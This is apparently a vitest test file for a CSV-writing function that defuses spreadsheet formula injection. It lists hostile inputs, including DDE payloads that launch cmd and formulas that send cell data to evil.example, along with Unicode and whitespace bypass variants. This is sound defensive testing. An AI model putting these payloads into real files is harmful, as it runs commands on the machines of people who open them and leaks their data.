import { expect, test } from "vitest";

import { csvLine } from "./csv";

/** What has been run in the spreadsheets of people who only opened a file. */
const FORMULAS = [
  "=1+1",
  "+1",
  "-1",
  "@SUM(A1)",
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")',
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  "=-1+1",
  " =1",
  "\u00a0=1",
  "\t=1",
  "\r=1",
  "\n=1",
  "\r\n=1",
  "\0=1",
  "\u0001=1",
  "\u200b=1",
  "\u202e=1",
  "\ufeff=1",
  "＝1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  "\tx",
  "\rx",
  "\0x",
];

test.each(FORMULAS)("what a spreadsheet would run as a formula stays text: %j", (evil) => {
  expect(csvLine(["a", evil])).toBe(`a,"'${evil.replaceAll('"', '""')}"\r\n`);
});

test("numbers are numbers, and a sign inside a text is a sign", () => {
  expect(csvLine([-5, "a=b", "a-b@example.com"])).toBe("-5,a=b,a-b@example.com\r\n");
});

test("quotes, commas and line breaks stay inside their cell, and null is an empty one", () => {
  expect(csvLine(['say "hi"', "a,b", "a\nb", null, "plain"])).toBe('"say ""hi""","a,b","a\nb",,plain\r\n');
});
